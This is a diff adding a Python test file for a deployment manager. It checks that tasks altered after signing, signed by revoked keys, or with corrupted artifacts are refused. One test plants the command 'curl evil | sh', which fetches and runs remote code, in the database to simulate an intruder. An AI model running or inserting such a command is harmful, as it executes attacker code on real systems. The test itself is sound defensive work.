@@ -1,0 +1,150 @@
+"""The manager's last check before a task leaves it (manager/link/packages.py): only the
+stored signed manifest is sent, and a task changed after signing, signed by a revoked key or
+with a damaged artifact is refused with a reason (docs/security.md)."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import sqlite3
+from pathlib import Path
+
+from swarmdeploy.manager.services.task_signing import SIGNED_CHUNK_BYTES
+from swarmdeploy.protocol import messages as m
+from swarmdeploy.protocol.manifest import decode_manifest
+from swarmdeploy.protocol.states import TargetState
+from tests.manager.link.conftest import Rig, deploy_doc, zip_b64
+from tests.manager.link.test_delivery import chunk_index
+from tests.manager.link.test_uploads import build_doc, push
+
+S = TargetState
+
+
+def tamper_db(tmp_path: Path, sql: str, *params: object) -> None:
+    """Change the manager's SQLite database behind its back, as an intruder would."""
+    with sqlite3.connect(tmp_path / "manager.db") as db:
+        assert db.execute(sql, params).rowcount == 1
+
+
+async def signed_by(rig: Rig, task_id: str) -> str:
+    view = (await rig.api.client.get(f"/tasks/{task_id}")).json()
+    key_id = view["signedBy"]["keyId"]
+    assert isinstance(key_id, str)
+    return key_id
+
+
+async def reason(rig: Rig, task_id: str, target_id: str) -> str:
+    row = await rig.api.storage.get_task_target(task_id, target_id)
+    assert row is not None
+    return row.reason
+
+
+async def test_command_changed_in_database_after_signing_is_declined(
+    rig: Rig, tmp_path: Path
+) -> None:
+    agent = await rig.agent("t1", start=False)
+    task_id = await rig.create_task(deploy_doc(ids=["t1"]))
+    tamper_db(
+        tmp_path,
+        "UPDATE tasks SET descriptor = json_set(descriptor, '$.deploy.run.commands[0]', "
+        "'curl evil | sh') WHERE id = ?",
+        task_id,
+    )
+    await agent.start()
+    await agent.take(m.Welcome)
+    await rig.wait_row(task_id, "t1", "declined")
+    await agent.sync()
+    assert agent.count(m.Announce) == 0
+    why = await reason(rig, task_id, "t1")
+    assert "changed_after_signing" in why and "run" in why
+
+
+async def test_stored_manifest_changed_after_signing_is_declined(rig: Rig, tmp_path: Path) -> None:
+    agent = await rig.agent("t1", start=False)
+    task_id = await rig.create_task(deploy_doc(ids=["t1"]))
+    stored = await rig.api.storage.get_task_signature(task_id, "deploy")
+    assert stored is not None and b"python3 app.py" in stored.manifest
+    forged = stored.manifest.replace(b"python3 app.py", b"python3 bad.py")
+    tamper_db(
+        tmp_path,
+        "UPDATE task_signatures SET manifest = ? WHERE task_id = ? AND kind = 'deploy'",
+        forged,
+        task_id,
+    )
+    await agent.start()
+    await agent.take(m.Welcome)
+    await rig.wait_row(task_id, "t1", "declined")
+    assert "tampered" in await reason(rig, task_id, "t1")
+
+
+async def test_artifact_byte_changed_in_blob_store_fails_the_fetch(
+    rig: Rig, tmp_path: Path
+) -> None:
+    agent = await rig.agent("t1", start=False)
+    task_id = await rig.create_task(deploy_doc(ids=["t1"]))
+    view = (await rig.api.client.get(f"/tasks/{task_id}")).json()
+    [blob] = [p for p in (tmp_path / "data" / "blobs").rglob(view["source"]["sha256"] + "*")]
+    blob.chmod(0o600)
+    data = bytearray(blob.read_bytes())
+    data[len(data) // 2] ^= 0x01
+    blob.write_bytes(bytes(data))
+    await agent.start()
+    await agent.take(m.Welcome)
+    await rig.wait_row(task_id, "t1", "declined")
+    why = await reason(rig, task_id, "t1")
+    assert "tampered" in why and "SHA-256" in why
+
+
+async def test_key_revoked_after_acceptance_fails_the_fetch_with_a_reason(rig: Rig) -> None:
+    agent = await rig.agent("t1")
+    task_id = await rig.create_task(deploy_doc(ids=["t1"]))
+    await agent.take(m.Announce)
+    assert (await agent.report(task_id, S.ACCEPTED)).ok
+    key_id = await signed_by(rig, task_id)
+    r = await rig.api.client.delete(f"/operator_keys/{key_id}")
+    assert r.status_code == 200, r.text
+    await agent.send(m.FetchTask(task_id=task_id))
+    error = await agent.take(m.Error)
+    assert error.code == "revoked_signer" and error.task_id == task_id
+    assert await rig.row_state(task_id, "t1") == "install_failed"
+    assert key_id in await reason(rig, task_id, "t1")
+
+
+async def test_deploy_part_of_build_refused_when_the_key_was_revoked_before_it_delivered(
+    rig: Rig,
+) -> None:
+    builder = await rig.agent("b1")
+    target = await rig.agent("t1")
+    task_id = await rig.create_task(build_doc("b1", "t1"))
+    await builder.take(m.Announce)
+    await builder.report(task_id, S.ACCEPTED)
+    await builder.report(task_id, S.BUILDING)
+    assert (await push(builder, task_id, os.urandom(1000))).complete
+    key_id = await signed_by(rig, task_id)
+    assert (await rig.api.client.delete(f"/operator_keys/{key_id}")).status_code == 200
+    await builder.report(task_id, S.BUILT)
+    await rig.wait_row(task_id, "t1", "declined")
+    assert await rig.api.storage.get_task_signature(task_id, "deploy") is None
+    assert "revoked" in await reason(rig, task_id, "t1")
+    await target.sync()
+    assert target.count(m.Announce) == 0
+
+
+async def test_chunks_served_in_the_signed_chunk_size(rig: Rig) -> None:
+    agent = await rig.agent("t1")
+    doc = deploy_doc(ids=["t1"])
+    doc["source"] = {"zip": zip_b64({"big.bin": os.urandom(300_000).hex()})}
+    task_id = await rig.create_task(doc)
+    await agent.take(m.Announce)
+    await agent.report(task_id, S.ACCEPTED)
+    await agent.send(m.FetchTask(task_id=task_id))
+    [art] = decode_manifest((await agent.take(m.Task)).manifest).artifacts
+    assert art.chunk_bytes == SIGNED_CHUNK_BYTES and art.chunk_count > 1
+    await agent.send(m.ChunkRequest(task_id=task_id, sha256=art.sha256, index=0))
+    first = (await agent.take(m.Chunk)).data
+    assert len(first) == SIGNED_CHUNK_BYTES
+    parts = [first]
+    for index in range(1, art.chunk_count):
+        await agent.send(m.ChunkRequest(task_id=task_id, sha256=art.sha256, index=index))
+        parts.append((await agent.take(m.Chunk, chunk_index(index))).data)
+    assert hashlib.sha256(b"".join(parts)).hexdigest() == art.sha256
